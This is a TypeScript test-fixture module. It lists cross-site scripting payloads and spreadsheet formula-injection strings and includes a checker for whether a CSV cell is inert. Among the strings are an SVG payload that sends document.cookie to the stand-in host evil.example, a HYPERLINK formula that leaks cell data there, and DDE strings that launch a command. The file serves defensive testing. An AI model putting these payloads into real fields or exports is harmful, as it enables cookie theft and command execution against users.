/**
 * Text an attacker puts in any field that is shown (a name, a title, a ticket) or exported (a spreadsheet cell): markup
 * that would run in a page, and cells a spreadsheet program would run as formulas.
 */
export const xssStrings = [
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '<svg/onload=fetch("//evil.example/"+document.cookie)>',
  '{{constructor.constructor("alert(1)")()}}',
] as const;

export const formulaStrings = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
] as const;

/** Whether a CSV or spreadsheet cell is inert: a spreadsheet would not run it as a formula. */
export function isInertCell(cell: string): boolean {
  const unquoted = cell.startsWith('"') && cell.endsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
  return !/^[=+\-@\t\r]/.test(unquoted);
}
